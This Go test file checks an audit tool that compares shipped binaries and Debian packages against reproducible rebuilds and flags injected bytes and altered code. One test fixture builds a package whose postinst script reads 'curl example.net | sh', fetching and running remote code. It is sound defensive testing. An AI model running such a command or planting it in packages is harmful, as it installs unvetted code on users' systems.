package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/proffer-audit/proffer/audit/compare"
	"github.com/proffer-audit/proffer/audit/compare/sections/sectionstest"
	"github.com/proffer-audit/proffer/reports"
	"github.com/proffer-audit/proffer/reports/safetext"
)

var rewriteGolden = flag.Bool("rewrite", false, "write what the tests got into testdata")

// golden holds text to a file of testdata.
func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", "compare", name)
	if *rewriteGolden {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

func small() sectionstest.ELF {
	return sectionstest.ELF{
		Text: bytes.Repeat([]byte{0x55, 0xc3, 0x90}, 900), Rodata: []byte("licence valid"), Data: make([]byte, 64),
		BuildID: [20]byte{1, 2, 3},
	}
}

// compared runs the command on two files with fixed names.
func compared(t *testing.T, shipped, rebuilt []byte, args ...string) (int, string, string) {
	t.Helper()
	t.Chdir(t.TempDir())
	for name, data := range map[string][]byte{"shipped": shipped, "rebuilt": rebuilt} {
		if err := os.WriteFile(name, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var out, errOut bytes.Buffer
	code := run(t.Context(), append([]string{"proffer", "compare", "shipped", "rebuilt"}, args...), &out, &errOut)
	return code, out.String(), errOut.String()
}

func TestCompareTranscripts(t *testing.T) {
	injected := small()
	injected.Gap, injected.BuildID = []byte("\x90\x90\x90\x90\xcc\xcc\xcc\xcc"), [20]byte{1, 2, 4}
	stamped := small()
	stamped.BuildID[0] = 9
	deb := func(script string, time int64, program []byte) []byte {
		return sectionstest.Ar(sectionstest.File{Name: "debian-binary", Content: []byte("2.0\n"), Time: time},
			sectionstest.File{Name: "postinst", Content: []byte(script), Time: time},
			sectionstest.File{Name: "agent", Content: program, Time: time, Mode: 0o100755})
	}
	here, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name             string
		shipped, rebuilt []byte
		exit             int
	}{
		{"identical.txt", small().Bytes(), small().Bytes(), exitDone},
		{"buildid.txt", stamped.Bytes(), small().Bytes(), exitDone},
		{"injected.txt", injected.Bytes(), small().Bytes(), exitNotMet},
		{"nested.txt", deb("curl example.net | sh\n", 1800000000, injected.Bytes()), deb("exit 0\n", 1700000000, small().Bytes()), exitNotMet},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, out, errOut := compared(t, tt.shipped, tt.rebuilt)
			t.Chdir(here)
			if code != tt.exit || errOut != "" {
				t.Errorf("exit %d, want %d; stderr %q", code, tt.exit, errOut)
			}
			golden(t, tt.name, out)
		})
	}
}

// What a reviewer sees of one changed function among many.
func TestCompareFunctionTranscript(t *testing.T) {
	text := safetext.Of
	r := compare.Result{
		Level: reports.Unexplained, Format: "elf", ShippedSize: 12_601_344, RebuiltSize: 12_601_280, FirstDifference: 88,
		DifferingBytes: 4_173_738, Accounted: 4_173_738,
		Classes: []compare.Class{
			{Class: compare.Moved, Bytes: 3_100_100, Evidence: []safetext.Text{text("section .rodata")}},
			{Class: compare.Relocated, Bytes: 1_073_330, Evidence: []safetext.Text{text("section .text: every operand that differs refers to the same thing")}},
			{Class: compare.ChangedCode, Bytes: 250, SecurityRelevant: true, Evidence: []safetext.Text{text("section .text: code main.checkLicence")}},
			{Class: compare.BuildID, Bytes: 58, Evidence: []safetext.Text{text("section .note.go.buildid: recomputed on both sides")}},
		},
		Functions: &compare.Functions{Total: 10_151, Same: 9_371, Relocated: 779, Changed: []compare.Function{{
			Name: text("main.checkLicence"), File: text("main.go"), Line: 19, Status: "changed", ShippedSize: 256, RebuiltSize: 192,
			Why: text("now calls net/http.Get; now uses \"https://example.net/unlock\""),
		}}},
		Found: []compare.Finding{{
			Rule: "compare.changed-code", Severity: reports.High, Class: compare.ChangedCode, Place: text("function main.checkLicence"),
			Message: text("code differs: function main.checkLicence (main.go:19, changed)"),
		}},
		Causes: []compare.Cause{{Kind: "toolchain", Detail: text("go1.26.5 for go1.26.4"), Proven: true}},
	}
	golden(t, "function.txt", newComparison("agent", "rebuilt/agent", r, reports.Explained).text())
}

func TestCompareDocument(t *testing.T) {
	injected := small()
	injected.Gap = []byte("\xcc\xcc\xcc")
	code, out, _ := compared(t, injected.Bytes(), small().Bytes(), "--json")
	var doc struct {
		Command, Level, Result string
		Exit                   int
		DifferingBytes         int64
		Accounted              int64
		Functions              struct {
			Same, Relocated *int
			Changed         []any
		}
		Causes   []any
		Findings []struct{ ID, Rule, Severity, Message string }
		Classes  []struct {
			Class            string
			Bytes            int64
			Evidence         []string
			SecurityRelevant bool
		}
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	if code != exitNotMet || doc.Exit != exitNotMet || doc.Result != "not-met" || doc.Command != "compare" || doc.Level != "unexplained" {
		t.Errorf("exit %d, document %+v", code, doc)
	}
	if doc.DifferingBytes != 3 || doc.Accounted != 3 || doc.Functions.Same == nil || doc.Functions.Changed == nil || doc.Causes == nil {
		t.Errorf("document %+v", doc)
	}
	if len(doc.Findings) != 1 || doc.Findings[0].Rule != "compare.executable-padding" || doc.Findings[0].Severity != "critical" ||
		!strings.HasPrefix(doc.Findings[0].ID, doc.Findings[0].Rule+"/") {
		t.Errorf("findings %+v", doc.Findings)
	}
	if len(doc.Classes) != 1 || doc.Classes[0].Bytes != 3 || !doc.Classes[0].SecurityRelevant || len(doc.Classes[0].Evidence) == 0 {
		t.Errorf("classes %+v", doc.Classes)
	}
}
